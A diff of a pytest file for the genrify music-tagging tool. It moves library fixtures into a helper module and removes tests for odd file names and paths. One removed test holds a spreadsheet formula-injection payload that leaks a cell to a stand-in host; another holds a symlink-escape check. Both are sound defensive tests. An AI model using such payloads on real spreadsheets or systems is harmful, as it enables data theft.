@@ -26,9 +26,10 @@ from hypothesis import strategies as st
 from genrify.errors import ConfigError
 from genrify.sources.tags import read_genres
 from genrify.tagging import (ChoiceConfig, NameRules, ResultsIndex, TagJobConfig, choose, choose_album,
-                             committed_songs, load_names, run_tag_job)
+                             committed_songs, load_names)
 from genrify.tagging.choose import EXISTING, decide_tag
 from helpers.badinput import make_bad_corpus
+from helpers.tagging_library import library, library_src, run_job, song_files  # noqa: F401  (fixtures)
 
 # ---------------------------------------------------------------------------- choosing names (pure)
 
@@ -149,42 +150,14 @@ def test_an_unknown_policy_is_a_config_error():
 # ---------------------------------------------------------------------------- the job, real files
 
 
-@pytest.fixture(scope="module")
-def library_src(tmp_path_factory):
-    """Twelve tagged songs (MP3, FLAC, Ogg, M4A) in per-style folders (READ-ONLY: copy first)."""
-    from genrify.sources.synthetic import write_demo_corpus
-
-    root = tmp_path_factory.mktemp("library-src")
-    for fmt in ("mp3", "flac", "ogg", "m4a"):
-        write_demo_corpus(root / fmt, per_genre=1, duration=4.0, fmt=fmt, styles=("classical", "metal", "jazz"))
-    return root
-
-
-@pytest.fixture
-def library(library_src, tmp_path):
-    dst = tmp_path / "music"
-    shutil.copytree(library_src, dst, ignore=shutil.ignore_patterns("manifest.csv"))
-    return dst
-
-
-def _job(library, model, index_path, **kw):
-    kw.setdefault("choice", ChoiceConfig(min_certainty=0.0))
-    with ResultsIndex(index_path) as index:
-        return run_tag_job([library], index=index, config=TagJobConfig(model=str(model), **kw))
-
-
-def _songs(root):
-    return sorted(p for p in root.rglob("*") if p.suffix in (".mp3", ".flac", ".ogg", ".m4a"))
-
-
 def test_a_dry_run_writes_nothing_and_a_rerun_analyses_nothing(library, tiny_cnn_model, tmp_path):
-    before = {p: p.read_bytes() for p in _songs(library)}
-    first = _job(library, tiny_cnn_model, tmp_path / "index.sqlite", existing="overwrite")
+    before = {p: p.read_bytes() for p in song_files(library)}
+    first = run_job(library, tiny_cnn_model, tmp_path / "index.sqlite", existing="overwrite")
     assert first.analysed == 12 and not first.failed
     actions = [f.action for f in first.files]
     assert all(a.startswith(("would write", "already tagged")) for a in actions), actions
-    assert {p: p.read_bytes() for p in _songs(library)} == before
-    again = _job(library, tiny_cnn_model, tmp_path / "index.sqlite")
+    assert {p: p.read_bytes() for p in song_files(library)} == before
+    again = run_job(library, tiny_cnn_model, tmp_path / "index.sqlite")
     assert again.analysed == 0 and again.reused == 12
     with ResultsIndex(tmp_path / "index.sqlite") as index:
         rows = index.rows()
@@ -193,25 +166,25 @@ def test_a_dry_run_writes_nothing_and_a_rerun_analyses_nothing(library, tiny_cnn
 
 def test_write_keeps_existing_genres_by_default_then_overwrite_merge_and_undo(library, tiny_cnn_model, tmp_path):
     index = tmp_path / "index.sqlite"
-    old = {p: read_genres(p) for p in _songs(library)}
+    old = {p: read_genres(p) for p in song_files(library)}
     assert all(old.values())  # the corpus writer tagged every song
-    kept = _job(library, tiny_cnn_model, index, write=True)
-    assert kept.written == 0 and {p: read_genres(p) for p in _songs(library)} == old
-    done = _job(library, tiny_cnn_model, index, write=True, existing="overwrite")
+    kept = run_job(library, tiny_cnn_model, index, write=True)
+    assert kept.written == 0 and {p: read_genres(p) for p in song_files(library)} == old
+    done = run_job(library, tiny_cnn_model, index, write=True, existing="overwrite")
     assert done.analysed == 0 and done.written == 12
     for f in done.files:
         assert read_genres(f.path) == f.choice.names
-    rerun = _job(library, tiny_cnn_model, index, write=True, existing="overwrite")
+    rerun = run_job(library, tiny_cnn_model, index, write=True, existing="overwrite")
     assert rerun.analysed == 0 and rerun.written == 0  # retagged files are recognised by their new hash
     assert {f.action for f in rerun.files} == {"already tagged by genrify"}
     from genrify.cli import main
 
     assert main(["tag", "--undo", str(library), "--index", str(index)]) == 0
-    assert {p: read_genres(p) for p in _songs(library)} == old
+    assert {p: read_genres(p) for p in song_files(library)} == old
 
 
 def test_merge_adds_after_the_existing_genre(library, tiny_cnn_model, tmp_path):
-    summary = _job(library, tiny_cnn_model, tmp_path / "i.sqlite", write=True, existing="merge")
+    summary = run_job(library, tiny_cnn_model, tmp_path / "i.sqlite", write=True, existing="merge")
     for f in summary.files:
         now = read_genres(f.path)
         if f.action.startswith("wrote"):
@@ -222,23 +195,23 @@ def test_merge_adds_after_the_existing_genre(library, tiny_cnn_model, tmp_path):
 def test_a_moved_file_is_recognised_by_its_content(library, tiny_cnn_model, tmp_path, workers):
     """The stage hashes each file the index does not know by path (in this process, or in the worker
     processes) and skips the analysis of a hash it knows: a moved, copied or touched song."""
-    _job(library, tiny_cnn_model, tmp_path / "index.sqlite")
+    run_job(library, tiny_cnn_model, tmp_path / "index.sqlite")
     (library / "moved").mkdir()
-    song = _songs(library / "mp3")[0]
+    song = song_files(library / "mp3")[0]
     song.rename(library / "moved" / "renamed.mp3")
-    shutil.copy(_songs(library / "flac")[0], library / "moved" / "copy.flac")
-    os.utime(_songs(library / "ogg")[0], ns=(1, 1))  # touched: a new time, the same content
-    again = _job(library, tiny_cnn_model, tmp_path / "index.sqlite", workers=workers)
+    shutil.copy(song_files(library / "flac")[0], library / "moved" / "copy.flac")
+    os.utime(song_files(library / "ogg")[0], ns=(1, 1))  # touched: a new time, the same content
+    again = run_job(library, tiny_cnn_model, tmp_path / "index.sqlite", workers=workers)
     assert again.analysed == 0 and again.reused == 13 and not again.failed
     moved = {str(library / "moved" / "renamed.mp3"), str(library / "moved" / "copy.flac")}
     assert moved <= {f.path for f in again.files}
     assert committed_songs(tmp_path / "index.sqlite") == 12
-    third = _job(library, tiny_cnn_model, tmp_path / "index.sqlite", workers=workers)
+    third = run_job(library, tiny_cnn_model, tmp_path / "index.sqlite", workers=workers)
     assert third.analysed == 0 and third.reused == 13  # every path is known by path, size and time now
 
 
 def test_album_mode_writes_one_genre_to_every_track_of_a_folder(library, tiny_cnn_model, tmp_path):
-    summary = _job(library, tiny_cnn_model, tmp_path / "index.sqlite", album=True, write=True, existing="overwrite")
+    summary = run_job(library, tiny_cnn_model, tmp_path / "index.sqlite", album=True, write=True, existing="overwrite")
     assert len(summary.albums) == 12  # each song is alone in its style folder here
     for f in summary.files:
         assert f.choice is summary.albums[f.album]
@@ -300,13 +273,13 @@ def test_kill_9_mid_job_then_rerun_analyses_nothing_twice_and_corrupts_nothing(b
 
     library, index = tmp_path / "music", tmp_path / "index.sqlite"
     shutil.copytree(big_library_src, library)
-    songs = _songs(library)
+    songs = song_files(library)
     decoded = {p: load_audio(p, sr=None)[0] for p in songs}
     done = _kill_when_committed([sys.executable, "-m", "genrify", "tag", str(library), "--model",
                                  str(tiny_cnn_model), "--index", str(index), "--write", "--overwrite",
                                  "--min-certainty", "0"], index, 4)
     assert 4 <= done < len(songs), done  # killed halfway through the analyses
-    rerun = _job(library, tiny_cnn_model, index, write=True, existing="overwrite")
+    rerun = run_job(library, tiny_cnn_model, index, write=True, existing="overwrite")
     assert rerun.analysed == len(songs) - done and not rerun.failed  # nothing analysed twice, nothing lost
     with sqlite3.connect(index) as conn:
         assert conn.execute("SELECT COUNT(*) FROM songs").fetchone()[0] == len(songs)
@@ -329,11 +302,11 @@ def test_a_killed_job_loses_only_the_batch_not_committed(big_library_src, tiny_c
     time, kill -9 leaves a whole number of batches, and the rerun analyses exactly the rest."""
     library, index = tmp_path / "music", tmp_path / "index.sqlite"
     shutil.copytree(big_library_src, library)
-    total = len(_songs(library))
+    total = len(song_files(library))
     done = _kill_when_committed([sys.executable, "-c", _BATCHED_JOB, str(library), str(index),
                                  str(tiny_cnn_model)], index, 5)
     assert done % 5 == 0 and 5 <= done < total, done
-    rerun = _job(library, tiny_cnn_model, index)
+    rerun = run_job(library, tiny_cnn_model, index)
     assert rerun.analysed == total - done and rerun.reused == done and not rerun.failed
     assert committed_songs(index) == total
 
@@ -363,89 +336,6 @@ def test_the_whole_bad_input_corpus_through_genrify_tag(tiny_cnn_model, tmp_path
             assert path.read_bytes() == data  # a failed file is never half-written
     assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".part")]
     assert read_genres(next(good.rglob("*.flac")))
-
-
-# ---------------------------------------------------------------------------- names, links, stored paths
-
-_ODD = os.fsdecode(b"x\xe9.mp3")  # a Latin-1 name, not UTF-8: Python reads the byte as a lone surrogate
-
-
-def test_a_name_that_is_not_utf8_is_analysed_tagged_listed_and_exported(library, tiny_cnn_model, tmp_path,
-                                                                         run_genrify):
-    from mutagen.easyid3 import EasyID3
-
-    odd = library / "mp3" / _ODD
-    shutil.copyfile(_songs(library / "mp3")[0], odd)
-    tags = EasyID3(odd)
-    tags["title"] = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
-    tags.save()
-    index, out = tmp_path / "i.sqlite", tmp_path / "genres.csv"
-    proc = run_genrify("tag", library, "--model", tiny_cnn_model, "--index", index, "--min-certainty", "0",
-                       "--export", out)  # a dry run first: it used to fail at the index, before the table
-    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
-    assert "x\\xe9.mp3" in proc.stdout and "0 failed" in proc.stdout  # shown terminal-safe
-    rows = {os.fsdecode(r["path"].encode("utf-8", "surrogateescape")): r
-            for r in csv.DictReader(out.open(encoding="utf-8", errors="surrogateescape", newline=""))}
-    assert rows[str(odd)]["title"].startswith("'=HYPERLINK(")  # a text cell in a spreadsheet, not a formula
-    written = _job(library, tiny_cnn_model, index, write=True, existing="overwrite")
-    mine = [f for f in written.files if f.path == str(odd)]
-    assert len(mine) == 1 and mine[0].error is None and mine[0].action.startswith("wrote")
-    with ResultsIndex(index) as results:
-        assert str(odd) in {r["path"] for r in results.rows()}
-    from genrify.tagging.index import read_songs
-
-    assert str(odd) in {r["path"] for r in read_songs(index)}
-    proc = run_genrify("tag", "--undo", library, "--index", index)
-    assert proc.returncode == 0 and "x\\xe9.mp3: restored" in proc.stdout, proc.stdout + proc.stderr
-
-
-def test_tag_write_does_not_follow_a_link_out_of_the_folder(library, tiny_cnn_model, tmp_path):
-    outside = tmp_path / "outside"
-    outside.mkdir(mode=0o700)
-    private = outside / "private.mp3"
-    shutil.copyfile(_songs(library / "mp3")[0], private)
-    os.chmod(private, 0o600)
-    before = private.read_bytes()
-    (library / "evil.mp3").symlink_to(private)
-    summary = _job(library, tiny_cnn_model, tmp_path / "i.sqlite", write=True, existing="overwrite")
-    (evil,) = [f for f in summary.files if f.path.endswith("evil.mp3")]
-    assert evil.error and "links outside" in evil.error and "\n" not in evil.error
-    assert private.read_bytes() == before
-    assert summary.written == 12
-
-
-def test_paths_are_stored_absolute_and_resolved_and_old_relative_rows_still_read(library, tiny_cnn_model, tmp_path,
-                                                                                monkeypatch):
-    monkeypatch.chdir(library.parent)
-    index = tmp_path / "i.sqlite"
-    _job(library.name, tiny_cnn_model, index)  # `genrify tag music`, from the folder above
-    with ResultsIndex(index) as results:
-        paths = [r["path"] for r in results.rows()]
-    assert len(paths) == 12 and all(os.path.isabs(p) and p == os.path.realpath(p) for p in paths)
-    from genrify.tagging.index import read_songs
-
-    with sqlite3.connect(index) as conn:  # a row as an earlier genrify stored it: as it was given
-        conn.execute("UPDATE songs SET path = ? WHERE path = ?", (os.path.relpath(paths[0]), paths[0]))
-    assert paths[0] in {r["path"] for r in read_songs(index)}
-
-
-def test_bad_json_in_the_results_index_is_a_one_line_error(library, tiny_cnn_model, tmp_path, run_genrify):
-    from genrify.errors import DatasetError
-    from genrify.tagging.index import read_songs
-
-    index = tmp_path / "i.sqlite"
-    _job(library, tiny_cnn_model, index)
-    with sqlite3.connect(index) as conn:
-        conn.execute("UPDATE songs SET tags = '{\"artist\": ' WHERE id = 1")
-    with ResultsIndex(index) as results, pytest.raises(DatasetError, match="damaged") as err:
-        results.rows()
-    assert "\n" not in str(err.value)
-    with pytest.raises(DatasetError, match="damaged"):
-        read_songs(index)
-    proc = run_genrify("tag", library, "--model", tiny_cnn_model, "--index", index)
-    assert "Traceback" not in proc.stdout + proc.stderr
-    (failed,) = [line for line in proc.stdout.splitlines() if line.startswith("failed: ")]
-    assert "damaged" in failed  # that song alone; the others are listed from the index as before
 
 
 # ---------------------------------------------------------------------------- beets' lastgenre conventions (pure)
